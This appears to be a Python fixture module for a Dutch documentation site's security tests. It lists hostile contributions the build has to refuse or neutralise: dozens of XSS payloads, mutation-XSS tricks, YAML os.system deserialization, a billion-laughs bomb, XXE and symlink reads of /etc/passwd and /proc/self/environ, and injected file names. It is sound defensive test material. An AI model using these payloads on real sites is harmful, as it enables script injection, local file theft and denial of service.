"""Hostile contributions, as a stranger's pull request would bring them: each one a set of files added to the fixture
site. Every payload that could run sets a global whose name starts with __kbx, or calls alert(); its text carries the
marker KBX, so the browser test knows which pages to open.

A case is either refused by the build (a Dutch message that names the file, no traceback) or published harmless;
tests/security/test_hostile_contributions.py checks which, and that nothing executable or secret is published.
"""
from __future__ import annotations

from conftest import page

ARTICLE = "dossiers/buurtkracht/abcd.md"
CONTACTS = "data/contacten.yml"
REDIRECTS = "data/redirects.yml"
SYNONYMS = "data/synoniemen.yml"
BOOK = ("titel: KBX\nondertitel: Ondertitel\nuitgever: Uitgever\njaar: 2026\ntaal: nl\nlicentie: CC BY 4.0\n"
        "trefwoorden: [buurt]\nonderwerp: Onderwerp\ncolofon: Tekst.\n")


def _body(markdown: str) -> dict[str, str]:
    return {ARTICLE: page("artikel", title="Asset Based Community Development", body=f"KBX\n\n{markdown}\n")}


def _field(name: str, value: str) -> dict[str, str]:
    fields = {"title": "Asset Based Community Development", name: value}
    return {ARTICLE: page("artikel", body="KBX\n\nTekst.\n", **fields)}


# Raw HTML and Markdown in a page body.
BODIES = {
    "script": "<script>window.__kbx=1</script>",
    "script-uppercase": "<SCRIPT>window.__kbx=1</SCRIPT>",
    "script-gt-next-line": "<script\n>window.__kbx=1</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-between-indented-fences": "    ```\n<script>window.__kbx=1</script>\n    ```",
    "script-after-escaped-backtick": "\\`<script>window.__kbx=1</script>",
    "script-after-backslash": "Een \\<script>window.__kbx=1</script> als tekst?",
    "img-onerror": '<img src="x" onerror="window.__kbx=1">',
    "img-split-lines": '<img\nsrc="x"\nonerror="window.__kbx=1">',
    "gt-in-attribute": '<div title=">" onclick="window.__kbx=1">KBX</div>',
    "namespaced-tag": '<x:y onmouseover="window.__kbx=1">KBX</x:y>',
    "svg-onload": '<svg onload="window.__kbx=1"></svg>',
    "svg-script": "<svg><script>window.__kbx=1</script></svg>",
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=window.__kbx=1>",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__kbx=1</script>"></iframe>',
    "object-data": '<object data="javascript:window.__kbx=1"></object>',
    "embed": '<embed src="javascript:window.__kbx=1">',
    "form-action": '<form action="javascript:window.__kbx=1"><button>KBX</button></form>',
    "button-formaction": '<button formaction="javascript:window.__kbx=1">KBX</button>',
    "input-autofocus": '<input autofocus onfocus="window.__kbx=1">',
    "details-ontoggle": '<details open ontoggle="window.__kbx=1"><summary>KBX</summary></details>',
    "style-tag": "<style>body{background:url(https://evil.example/t.png)}</style>",
    "style-attribute": '<p style="background:url(https://evil.example/t.png)">KBX</p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__kbx=1">',
    "base-href": '<base href="https://evil.example/">',
    "link-import": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "a-javascript": '<a href="javascript:window.__kbx=1">KBX</a>',
    "a-javascript-entities": '<a href="&#106;avascript:window.__kbx=1">KBX</a>',
    "a-javascript-tab": '<a href="java\tscript:window.__kbx=1">KBX</a>',
    "a-javascript-newline": '<a href="java\nscript:window.__kbx=1">KBX</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">KBX</a>',
    "a-data-html": '<a href="data:text/html,<script>window.__kbx=1</script>">KBX</a>',
    "a-target-blank": '<a href="https://example.org" target="_blank">KBX</a>',
    "markdown-link-javascript": "[KBX](javascript:window.__kbx=1)",
    "markdown-link-javascript-upper": "[KBX](JaVaScRiPt:window.__kbx=1)",
    "markdown-link-data": "[KBX](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19rYng9MTwvc2NyaXB0Pg==)",
    "markdown-link-vbscript": "[KBX](vbscript:msgbox)",
    "markdown-link-angle-javascript": "[KBX](<javascript:window.__kbx=1>)",
    "markdown-image-javascript": "![KBX](javascript:window.__kbx=1)",
    "markdown-image-remote": "![KBX](https://tracker.example/pixel.png)",
    "markdown-image-protocol-relative": "![KBX](//tracker.example/pixel.png)",
    "reference-javascript": "[KBX][x]\n\n[x]: javascript:window.__kbx=1",
    "reference-data": "[KBX][x]\n\n[x]: data:text/html,<script>window.__kbx=1</script>",
    "reference-vbscript": "[KBX][x]\n\n[x]: vbscript:msgbox(1)",
    "autolink-javascript": "<javascript:window.__kbx=1>",
    "attr-list-href": "[KBX](https://example.org){href=javascript:window.__kbx=1}",
    "attr-list-onclick": '[KBX](https://example.org){title="}" onclick="window.__kbx=1"}',
    "attr-list-style": '[KBX](https://example.org){style="position:fixed;top:0;left:0;width:100%;height:100%"}',
    "attr-list-formaction": "[KBX](https://example.org){formaction=javascript:window.__kbx=1}",
    "attr-list-paragraph-onclick": 'KBX\n{: onclick="window.__kbx=1" }',
    "attr-list-class-theme": "KBX\n{: .md-header }",
    "attachment-file": '[KBX](https://example.org){rel=attachment href="file:///etc/passwd"}',
    "attachment-git-config": '[KBX](https://example.org){rel=attachment href="file:///proc/self/environ"}',
    "img-file-url": '![KBX](file:///etc/passwd)',
    "img-src-override-remote": "![KBX](https://example.org/a.png){src=https://tracker.example/p.png}",
    "img-src-override-file": "![KBX](https://example.org/a.png){src=file:///etc/passwd}",
    "link-file-url": "[KBX](file:///etc/passwd)",
    "link-unicode-escape-scheme": "[KBX](jav&#x09;ascript:window.__kbx=1)",
    "raw-img-next-to-page": "<img src=plaatje.png alt=KBX>",
    "template-tag": "<template><img src=x onerror=window.__kbx=1></template>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=window.__kbx=1>"></noscript>',
    "comment-breakout": "<!--><img src=x onerror=window.__kbx=1>-->",
    "cdata-in-html": "<![CDATA[><img src=x onerror=window.__kbx=1>]]>",
    "textarea-breakout": "<textarea></textarea><img src=x onerror=window.__kbx=1></textarea>",
    "html-entity-tag": "&lt;img src=x onerror=window.__kbx=1&gt;",
    "md-in-html-script": '<div markdown="1">\n\n<script>window.__kbx=1</script>\n\n</div>',
    "abbr-definition-html": "*[KBX]: <img src=x onerror=window.__kbx=1>\n\nKBX",
    "footnote-html": "KBX[^1]\n\n[^1]: <img src=x onerror=window.__kbx=1>",
    "table-cell-html": "| a | b |\n|---|---|\n| <img src=x onerror=window.__kbx=1> | KBX |",
    "heading-html": "## KBX <img src=x onerror=window.__kbx=1>",
    "heading-entity-title": "# &lt;img src=x onerror=window.__kbx=1&gt;",
    "id-clobbering-name": '<span id="__kbx">KBX</span>',
}

# Front matter: every field is plain text.
FIELDS = {
    "title-html": ("title", "'<img src=x onerror=window.__kbx=1>'"),
    "title-script": ("title", "'KBX</title><script>window.__kbx=1</script>'"),
    "description-breakout": ("description", "'KBX\"><script>window.__kbx=1</script>'"),
    "description-attribute-breakout": ("description", "'KBX\" onfocus=\"window.__kbx=1\" autofocus=\"'"),
    "menutitel-html": ("menutitel", "'<b onmouseover=window.__kbx=1>KBX</b>'"),
    "auteur-html": ("auteur", "'<script>window.__kbx=1</script>'"),
    "description-5mb": ("description", "'" + "KBX " * 1_300_000 + "'"),
    "description-control-characters": ("description", '"KBX\\u0007\\u001b[31m"'),
    "title-impossible-date": ("title", "2026-02-30"),
    "yaml-python-tag": ("description", "!!python/object/apply:os.system ['echo KBX']"),
    "yaml-billion-laughs": ("description", "&a ['KBX','KBX','KBX','KBX','KBX','KBX','KBX','KBX','KBX']\n"
                            "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                            "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                            "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
                            "h: [*g,*g,*g,*g,*g,*g,*g,*g,*g]"),
}

# A file that ends right after its front matter, where MkDocs and a lenient reader disagree.
ODD_FILES = {
    "front-matter-without-newline": {ARTICLE: "---\ntitle: KBX\ndescription: '<script>window.__kbx=1</script>'\n"
                                              "type: artikel\nthemas: [vrijwillige-inzet]\ndoelgroepen: [gemeenten]\n"
                                              "datum: 2026-11-28\n---"},
    "date-in-title-description-script": {ARTICLE: "---\ntitle: 2026-02-30\ntype: artikel\n"
                                                  "description: '<script>window.__kbx=1</script>'\n"
                                                  "themas: [vrijwillige-inzet]\ndoelgroepen: [gemeenten]\n"
                                                  "datum: 2026-11-28\n---\nKBX\n"},
    "page-of-2mb": {ARTICLE: page("artikel", title="Groot", body="KBX " * 600_000)},
}

# Data files and configuration.
DATA = {
    "contact-role-html": {CONTACTS: "- rol: '<img src=x onerror=window.__kbx=1>'\n  onderwerpen: [KBX]\n",
                          "docs/colofon.md": page(title="Over deze kennisbank",
                                                  body="KBX\n\n<!-- contactpersonen -->\n")},
    "contact-name-html": {CONTACTS: ("- rol: Adviseur\n  naam: '<script>window.__kbx=1</script>'\n"
                                     "  onderwerpen: [KBX]\n"),
                          "docs/colofon.md": page(title="Over deze kennisbank",
                                                  body="KBX\n\n<!-- contactpersonen -->\n")},
    "contact-email-javascript": {CONTACTS: "- rol: Adviseur\n  email: 'javascript:window.__kbx=1//@x.nl'\n",
                                 "docs/colofon.md": page(title="Over deze kennisbank",
                                                         body="KBX\n\n<!-- contactpersonen -->\n")},
    "contact-email-html": {CONTACTS: "- rol: Adviseur\n  email: 'a@b.nl\"><script>window.__kbx=1</script>'\n",
                           "docs/colofon.md": page(title="Over deze kennisbank",
                                                   body="KBX\n\n<!-- contactpersonen -->\n")},
    "redirect-onto-feed": {REDIRECTS: "/feed.xml/: /index.md\n"},
    "redirect-onto-search-page": {REDIRECTS: "/zoeken.md: /index.md\n"},
    "redirect-onto-assets": {REDIRECTS: "/assets/index.md: /index.md\n"},
    "redirect-to-javascript": {REDIRECTS: "/oud.md: 'javascript:window.__kbx=1//.md'\n"},
    "redirect-not-yaml": {REDIRECTS: "/oud.md: [/index.md\n"},
    "synonym-html": {SYNONYMS: "- ['<img src=x onerror=window.__kbx=1>', KBX]\n"},
    "limits-not-numbers": {"grenzen.yml": "afbeelding_mb: veel\n"},
    "book-colophon-html": {"ebook/boek.yml": BOOK.replace("colofon: Tekst.",
                                                          "colofon: '<img src=x onerror=window.__kbx=1>'")},
    "book-language-attribute": {"ebook/boek.yml": BOOK.replace("taal: nl", "taal: 'nl\" onload=\"window.__kbx=1'")},
    "book-title-script": {"ebook/boek.yml": BOOK.replace("titel: KBX",
                                                         "titel: '</title><script>window.__kbx=1</script>'")},
}


def _vocabulary_edit(old: str, new: str):
    """vocabulaire.yml with one change: the test reads the shipped file and replaces old by new."""
    return ("vocabulaire.yml", old, new)


VOCABULARY = {
    "vocabulary-label-html": _vocabulary_edit("  leefbaarheid: ",
                                              "  leefbaarheid: \"<img src=x onerror=window.__kbx=1>\" # "),
    "vocabulary-types-missing": _vocabulary_edit("types:", "typen:"),
    "vocabulary-field-kind-wrong": _vocabulary_edit("soort: tekst", "soort: 7"),
    "vocabulary-required-not-a-list": _vocabulary_edit("verplicht: [title, description, type, themas]",
                                                       "verplicht: title"),
    "vocabulary-not-yaml": _vocabulary_edit("types:", "types: ["),
}

# Files beside the pages.
SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__kbx=1</script></svg>'
SVG_FOREIGN = ('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
               '<img src="x" onerror="window.__kbx=1"/></body></foreignObject></svg>')
SVG_ONLOAD = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__kbx=1"><rect width="1" height="1"/></svg>'
SVG_REMOTE = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
              '<image xlink:href="https://tracker.example/p.png"/></svg>')
SVG_ENTITY = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'


def _image_page(name: str) -> dict[str, str]:
    return {ARTICLE: page("artikel", title="Asset Based Community Development",
                          body=f"KBX\n\n![Een tekening]({name})\n")}


FILES = {
    "svg-script": {**_image_page("tekening.svg"), "dossiers/buurtkracht/tekening.svg": SVG_SCRIPT},
    "svg-foreign-object": {**_image_page("tekening.svg"), "dossiers/buurtkracht/tekening.svg": SVG_FOREIGN},
    "svg-onload": {**_image_page("tekening.svg"), "dossiers/buurtkracht/tekening.svg": SVG_ONLOAD},
    "svg-remote-image": {**_image_page("tekening.svg"), "dossiers/buurtkracht/tekening.svg": SVG_REMOTE},
    "svg-external-entity": {**_image_page("tekening.svg"), "dossiers/buurtkracht/tekening.svg": SVG_ENTITY},
    "file-name-html": {"dossiers/buurtkracht/<img src=x onerror=window.__kbx=1>.md":
                       page("artikel", title="KBX", body="KBX\n\nTekst.\n")},
    "file-name-quote": {'dossiers/buurtkracht/a" onmouseover="window.__kbx=1.md':
                        page("artikel", title="KBX", body="KBX\n\nTekst.\n")},
    "image-30mb": {**_image_page("groot.png"),
                   "dossiers/buurtkracht/groot.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 30_000_000},
}
# Symbolic links, made by the test: the path in the site, and where the link points.
SYMLINKS = {
    "symlink-image-to-passwd": ("dossiers/buurtkracht/plaatje.png", "/etc/passwd", _image_page("plaatje.png")),
    "symlink-folder-under-docs": ("docs/ergens", "/etc", {}),
    "symlink-page-to-dev-zero": ("dossiers/buurtkracht/oneindig.md", "/dev/zero", {}),
}

# Contributions that are harmless and must be published as text, not refused.
HARMLESS = {
    "escaped-tag-as-text": _body("Schrijf &lt;script&gt; als tekst: KBX."),
    "code-block-with-script": _body("```html\n<script>window.__kbx=1</script>\n```"),
    "inline-code-with-handler": _body("Gebruik nooit `<img onerror=window.__kbx=1>` in een pagina."),
    "title-with-quotes-and-ampersand": {ARTICLE: page("artikel", title="'Wat \"werkt\" & waarom: KBX'",
                                                      body="KBX\n\nTekst.\n")},
    "description-with-quotes": _field("description", "'Over \"buurtkracht\" & <3 voor KBX'"),
    "less-than-in-text": _body("Minder dan 5 uur: 3 < 5 en 5 > 3, KBX."),
    "allowed-html": _body('<abbr title="Wet maatschappelijke ondersteuning">Wmo</abbr> en <span lang="en">'
                          'community</span>, <kbd>Ctrl</kbd>, KBX.\n\n<details><summary>Meer</summary>\n\nTekst.\n\n'
                          "</details>"),
    "link-title-with-quotes": _body('[KBX](https://example.org "Een \\"titel\\" met <b>")'),
    "link-with-query-string": _body("[Een zoekopdracht](https://example.org/?a=1&b=2) KBX"),
    "mailto-link": _body("[Mail ons](mailto:info@example.org) KBX"),
}


def cases() -> dict[str, dict]:
    """Every hostile contribution, by name: {"files": ..., "vocabulary": ..., "symlink": ..., "harmless": bool}."""
    found: dict[str, dict] = {}
    for name, markdown in BODIES.items():
        found[name] = {"files": _body(markdown)}
    for name, (field, value) in FIELDS.items():
        found[name] = {"files": _field(field, value)}
    for group in (ODD_FILES, DATA, FILES):
        for name, files in group.items():
            found[name] = {"files": files}
    for name, edit in VOCABULARY.items():
        found[name] = {"files": {}, "vocabulary": edit}
    for name, (link, target, files) in SYMLINKS.items():
        found[name] = {"files": files, "symlink": (link, target)}
    for name, files in HARMLESS.items():
        found[name] = {"files": files, "harmless": True}
    return found
